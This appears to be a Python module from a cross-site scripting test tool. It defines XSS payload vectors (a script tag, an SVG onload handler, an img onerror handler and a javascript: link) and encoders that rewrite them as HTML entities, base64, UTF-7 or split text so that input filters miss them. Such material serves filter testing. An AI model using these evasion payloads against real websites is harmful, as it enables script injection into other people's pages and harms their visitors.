"""What the vectors are made of: the call that is counted, and the ways to write it so that a filter reads past it."""

import base64

CALL = "alert(1)"
LINK = f"javascript:{CALL}"
SCRIPT = f"<script>{CALL}</script>"
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'
IMAGE = f"<img src=x onerror={CALL}>"


def decimal(text: str, *, width: int = 0, end: str = ";") -> str:
    """Each sign as its number: &#106;"""
    return "".join(f"&#{ord(sign):0{width}d}{end}" for sign in text)


def hexadecimal(text: str, *, width: int = 0, end: str = ";", mark: str = "x") -> str:
    return "".join(f"&#{mark}{ord(sign):0{width}X}{end}" for sign in text)


def base64_of(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def between(text: str, sign: str) -> str:
    return sign.join(text)


def utf7(text: str) -> str:
    """As UTF-7 hides the signs that open a tag."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


def link(address: str, words: str = "lien") -> str:
    sign = "'" if '"' in address else '"'
    return f"<a href={sign}{address}{sign}>{words}</a>"
